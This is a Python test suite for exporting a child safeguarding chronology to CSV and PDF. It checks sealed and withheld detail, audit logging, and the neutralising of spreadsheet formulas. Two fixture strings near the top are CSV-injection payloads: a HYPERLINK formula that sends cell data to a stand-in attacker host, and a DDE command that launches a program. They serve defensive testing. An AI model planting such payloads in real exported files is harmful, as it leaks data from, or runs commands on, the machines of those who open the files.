"""Exporting a chronology: the CSV and the PDF as a reader sees them, the register and the audit."""

from __future__ import annotations

import csv
import hashlib
import io
from typing import Any

import pytest
from pypdf import PdfReader
from sqlalchemy import select

from joinedup.access import break_glass
from joinedup.access.models import AuditEntry
from joinedup.access.roles import Actor, Role
from joinedup.access.service import NoRelationship
from joinedup.chronology import export_pdf, exports
from joinedup.chronology import service as chronology
from joinedup.chronology.views import Filters
from joinedup.core.errors import NotPermitted, ValidationFailed
from joinedup.sharing.models import Disclosure
from tests.factories.relationships import allocate
from tests.unit.access.test_relationships import kept_refusals
from tests.unit.people.support import Store, adult, child, nhs, people, rec

__all__ = ["people"]  # the fixture

WORKER = Actor(role=Role.SOCIAL_WORKER, label="sw.one", user_id=101)
MASH = Actor(role=Role.MASH_PRACTITIONER, label="mash.one", user_id=102)
POLICE = {"agency": "police", "organisation": "Testshire Police"}
SCHOOL = {"agency": "education", "organisation": "Sample Primary School"}
HEALTH = {"agency": "health", "organisation": "Testshire NHS Trust"}
HOSTILE_SUMMARY = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")'
HOSTILE_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"


def at(day: str) -> dict[str, str]:
    return {"occurred_at": f"{day}T10:00:00+00:00", "date_precision": "minute"}


def lukasz(**fields: Any) -> dict[str, Any]:
    return child(given_names="Łukasz", family_name="Wiśniewski", date_of_birth="2015-11-02",
                 nhs_number=nhs(3100), **fields)  # fmt: skip


@pytest.fixture
def boy(people: Store) -> int:
    """Łukasz, known to the school, the police and health; one record of each kind a reader
    must see through: hostile text, a month-precision date, sensitive and sealed detail."""
    records = [
        rec(lukasz(), source=SCHOOL, summary=HOSTILE_SUMMARY,
            author={"name": HOSTILE_AUTHOR, "role": "+teacher", "contact": "-0300 000 0002"},
            **at("2024-01-10")),
        rec(lukasz(), adult(given_names="=Mara", family_name="Zażółć", victim=True),
            type="domestic_abuse_incident", source=POLICE,
            summary="Neighbour called. Children present.",
            attributes={"children_present": True, "risk_level": "high"}, **at("2024-03-01")),
        rec(adult(given_names="=Mara", family_name="Zażółć", relationship=None), type="adult_risk",
            source=POLICE, summary="+Risk noted.", attributes={}, **at("2024-04-02")),
        rec(lukasz(), source=HEALTH, type="was_not_brought", attributes={"service": "dental"},
            summary="\tTab-led dental note.", occurred_at="2024-06", date_precision="month"),
        rec(lukasz(), source=HEALTH, sensitivity="sensitive", summary="Clinic detail SECRET-ONE.",
            **at("2024-07-07")),
        rec(lukasz(), source=HEALTH, sensitivity="restricted", summary="Sealed SECRET-TWO.",
            **at("2024-08-08")),
    ]  # fmt: skip
    for r in records:
        people.submit(r)
    return people.person(records[0]["record_id"])


def export(people: Store, person: int, fmt: str = "csv", actor: Actor = WORKER,
           **changes: Any) -> exports.ExportFile:  # fmt: skip
    fields: dict[str, Any] = {
        "filters": Filters(),
        "recipient": "Family Court, Testtown",
        "purpose": "Care proceedings: the court's direction of 3 November",
        "lawful_basis": "court_order",
    }
    fields.update(changes)
    return exports.export_chronology(session=people.session, actor=actor, person_id=person,
                                     fmt=fmt, now=people.clock.now(), **fields)  # fmt: skip


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def pdf_text(content: bytes) -> str:
    """The words of every page, with the line breaks of wrapped text read as spaces."""
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def test_the_csv_has_one_row_per_entry_with_honest_dates(people: Store, boy: int) -> None:
    made = export(people, boy)
    assert made.media_type == "text/csv; charset=utf-8"
    assert made.filename.startswith(f"chronology-{boy}-") and made.filename.endswith(".csv")
    rows = csv_rows(made.content)
    assert list(rows[0]) == [name for name, _ in exports.CSV_COLUMNS]
    assert [r["Type"] for r in rows] == ["Concern", "Domestic abuse incident", "Adult risk",
                                         "Was not brought", "Concern"]  # fmt: skip
    month = rows[3]
    assert (month["Date"], month["Date (ISO 8601)"], month["Date precision"]) == (
        "June 2024", "2024-06", "month")  # fmt: skip
    first = rows[0]
    assert (first["Date"], first["Date (ISO 8601)"]) == ("10 January 2024 10:00",
                                                         "2024-01-10T10:00+00:00")  # fmt: skip
    incident = rows[1]
    assert incident["Agency"] == "Police" and incident["Severity"] == "High"
    assert "Łukasz Wiśniewski" in incident["People"]
    assert incident["People"] == "Łukasz Wiśniewski; =Mara Zażółć (mother, victim)"
    assert (rows[2]["People"], rows[2]["About the child"]) == ("'=Mara Zażółć", "No")


def test_cells_that_could_start_a_formula_are_neutralised(people: Store, boy: int) -> None:
    rows = csv_rows(export(people, boy).content)
    school, _, risk, dental, _ = rows
    assert (risk["Summary"], risk["People"]) == ("'+Risk noted.", "'=Mara Zażółć")
    assert school["Summary"] == "'" + HOSTILE_SUMMARY
    assert school["Author"] == "'" + HOSTILE_AUTHOR
    assert school["Author role"] == "'+teacher"
    assert school["Author contact"] == "'-0300 000 0002"
    assert dental["Summary"] == "'\tTab-led dental note."
    for row in rows:
        for value in row.values():
            assert not value.startswith(exports.FORMULA_STARTS), value
    assert exports.neutralise("\rx") == "'\rx" and exports.neutralise("a=b") == "a=b"


def test_sealed_records_are_left_out_of_both_files(people: Store, boy: int) -> None:
    assert b"SECRET-TWO" not in export(people, boy).content
    text = pdf_text(export(people, boy, fmt="pdf").content)
    assert "SECRET-TWO" not in text and "1 sealed record is not included" in text
    assert "Clinic detail SECRET-ONE." in text  # a social worker may read health detail


def test_withheld_summaries_stay_withheld(people: Store, boy: int) -> None:
    """The files are made from what the reader was shown: for a role that may not read health
    detail (the front door), the summary is absent and the reason stands in its place."""
    seen = chronology.get_chronology(session=people.session, actor=MASH, person_id=boy,
                                     filters=Filters(), now=people.clock.now())  # fmt: skip
    rows = csv_rows(exports.render_csv(seen))
    clinic = rows[4]
    assert clinic["Summary"] == "" and clinic["Summary withheld"].startswith("Health or sexual")
    pdf = export_pdf.render_pdf(_cover(), [exports.pdf_row(e) for e in seen.entries],
                                created=people.clock.now())  # fmt: skip
    text = pdf_text(pdf)
    assert "SECRET-ONE" not in text and "Withheld. Health or sexual-health detail" in text
    assert "1 summary is withheld" in text


def _cover() -> export_pdf.Cover:
    return export_pdf.Cover(
        name="Łukasz Wiśniewski", person_id=1, date_of_birth="2 November 2015",
        other_dates_of_birth=0, exported_by="mash.one", exported_at="23 November 2026 09:00",
        recipient="Nobody", purpose="Test", lawful_basis="Test", filters=["None"], shown=5,
        total=5, withheld_summaries=1, sealed=0,
    )  # fmt: skip


def test_the_pdf_reads_as_a_marked_chronology(people: Store, boy: int) -> None:
    made = export(people, boy, fmt="pdf", lawful_basis="safeguarding")
    assert made.media_type == "application/pdf" and made.content.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(made.content))
    for number, page in enumerate(reader.pages, start=1):
        text = page.extract_text()
        assert text.count("OFFICIAL-SENSITIVE") == 2  # head and foot of every page
        assert f"Page {number} of {len(reader.pages)}" in text
    text = pdf_text(made.content)
    for expected in (
        "Chronology of Łukasz Wiśniewski", "2 November 2015", "sw.one (Social worker)",
        "23 November 2026 09:00", "Family Court, Testtown", "the court's direction",
        "Schedule 1, paragraph 18", "None: the whole chronology", "5 of 5 entries",
        "June 2024", "10 January 2024 10:00", "Testshire Police", "Domestic abuse incident",
        "High severity", "Neighbour called.", "Zażółć",
    ):  # fmt: skip
        assert expected in text, expected
    assert "1 June 2024" not in text  # never a day the source did not know


def test_a_long_chronology_wraps_onto_numbered_pages(people: Store, boy: int) -> None:
    long = "A long summary that must wrap within its column. " * 30
    for day in range(1, 25):
        people.submit(rec(lukasz(), source=SCHOOL, summary=long, **at(f"2023-02-{day:02d}")))
    reader = PdfReader(io.BytesIO(export(people, boy, fmt="pdf").content))
    assert len(reader.pages) > 3
    last = reader.pages[-1].extract_text()
    assert f"Page {len(reader.pages)} of {len(reader.pages)}" in last
    assert "Summary" in reader.pages[2].extract_text()  # the headings repeat on each page


def test_filters_are_applied_and_stated(people: Store, boy: int) -> None:
    only_police = Filters(agencies=frozenset({"police"}))
    rows = csv_rows(export(people, boy, filters=only_police).content)
    assert [r["Agency"] for r in rows] == ["Police", "Police"]
    text = pdf_text(export(people, boy, fmt="pdf", filters=only_police).content)
    assert "Agencies: Police" in text and "2 of 5 entries" in text


def test_each_export_is_recorded_in_the_register_and_the_audit_log(people: Store, boy: int) -> None:
    made = export(people, boy, fmt="pdf", filters=Filters(severities=frozenset({"high"})))
    row = people.session.get(Disclosure, made.disclosure_id)
    assert row is not None
    assert row.sha256 == hashlib.sha256(made.content).hexdigest()
    assert (row.by_label, row.by_user_id, row.by_role) == ("sw.one", 101, "social_worker")
    assert (row.what, row.entry_count, row.lawful_basis) == ("chronology_export", 1, "court_order")
    assert row.details["child"] == boy
    assert row.recipient == "Family Court, Testtown"
    assert row.details["format"] == "pdf" and row.details["filters"] == {"severities": ["high"]}
    mother = people.person(_record_of(people, "domestic_abuse_incident"), "a1")
    assert row.person_ids[0] == boy and mother in row.person_ids
    audit = people.session.scalars(
        select(AuditEntry).where(AuditEntry.action == "chronology:export")
    ).all()
    (entry,) = [e for e in audit if "disclosure" in e.detail]
    (check,) = [e for e in audit if e.detail.get("step") == "export"]  # the relationship first
    assert check.resource_ids == [boy] and check.detail.get("relationship")
    assert entry.outcome == "permitted" and entry.resource_ids == row.person_ids
    assert entry.detail["format"] == "pdf" and entry.detail["entries"] == 1
    assert entry.detail["disclosure"] == row.id
    assert "Family Court" not in str(entry.detail)  # free text stays out of the audit log


def test_bad_input_names_each_field_and_records_nothing(people: Store, boy: int) -> None:
    with pytest.raises(ValidationFailed) as failed:
        export(people, boy, fmt="docx", recipient="  ", purpose="", lawful_basis="because")
    assert [e.field for e in failed.value.errors] == ["format", "recipient", "purpose",
                                                      "lawful_basis"]  # fmt: skip
    with pytest.raises(ValidationFailed) as failed:
        export(people, boy, recipient="x" * 301)
    assert [e.field for e in failed.value.errors] == ["recipient"]
    assert people.session.scalars(select(Disclosure)).all() == []


def test_a_role_without_the_export_permission_is_refused(people: Store, boy: int) -> None:
    with pytest.raises(NotPermitted):
        export(people, boy, actor=MASH)
    assert people.session.scalars(select(Disclosure)).all() == []


def test_without_its_font_the_pdf_says_how_to_install_it(tmp_path: Any) -> None:
    with pytest.raises(export_pdf.FontMissing, match="make setup"):
        export_pdf.font_paths(tmp_path)


def _record_of(people: Store, kind: str) -> str:
    from joinedup.intake.models import Event, SourceRecord

    query = (
        select(SourceRecord.record_id)
        .join(Event, Event.source_record_id == SourceRecord.id)
        .where(Event.type == kind)
    )
    return str(people.session.scalars(query).first())


def test_set_up_copies_the_pinned_fonts_beside_the_exporter(tmp_path: Any) -> None:
    from joinedup.web import assets

    package = tmp_path / "node_modules" / assets.FONT_PACKAGE
    (package / "ttf").mkdir(parents=True)
    (package / "package.json").write_text('{"version": "2.36.0"}')
    with pytest.raises(assets.AssetsError, match=r"2\.36\.0 is installed but 2\.37\.3"):
        assets.copy_fonts(tmp_path, tmp_path / "fonts")
    (package / "package.json").write_text(f'{{"version": "{assets.FONT_VERSION}"}}')
    with pytest.raises(assets.AssetsError, match=r"DejaVuSans\.ttf"):
        assets.copy_fonts(tmp_path, tmp_path / "fonts")
    for name in assets.FONT_FILES:
        (package / "ttf" / name).write_bytes(name.encode())
    (package / "LICENSE").write_text("Bitstream Vera")
    target = assets.copy_fonts(tmp_path, tmp_path / "fonts")
    assert set(export_pdf.font_paths(target)) == {"", "B"}
    assert (target / "DejaVuSans-Bold.ttf").read_bytes() == b"DejaVuSans-Bold.ttf"
    assert export_pdf.FONTS.resolve() == assets.FONTS


def _preview(people: Store, person: int) -> exports.Preview:
    return exports.preview_export(session=people.session, actor=WORKER, person_id=person,
                                  filters=Filters(), now=people.clock.now())  # fmt: skip


def _entries(people: Store) -> list[AuditEntry]:
    return list(people.session.scalars(select(AuditEntry).order_by(AuditEntry.id)))


def test_a_preview_is_one_audited_read_and_a_refused_one_its_refusal(
    people: Store, boy: int
) -> None:
    before = len(_entries(people))
    assert _preview(people, boy).person_id == boy
    added = _entries(people)[before:]
    assert [(e.action, e.outcome, e.actor_label) for e in added] == [
        ("chronology:read", "permitted", "sw.one")
    ]
    assert added[0].resource_ids[0] == boy
    # Reading under break-glass is no relationship to export on: refused, and so audited.
    allocate(people.session, person_id=boy, worker=Actor(Role.SOCIAL_WORKER, "sw.two", 103))
    break_glass.open_record(session=people.session, actor=WORKER, person_id=boy,
                            reason="Duty call from the police about this child tonight.",
                            now=people.clock.now())  # fmt: skip
    with pytest.raises(NoRelationship):
        _preview(people, boy)
    kept_refusals(people.session)
    refused = [e for e in _entries(people) if e.outcome == "refused"]
    assert [(e.action, e.resource_ids, e.detail["step"]) for e in refused] == [
        ("chronology:export", [boy], "preview")
    ]
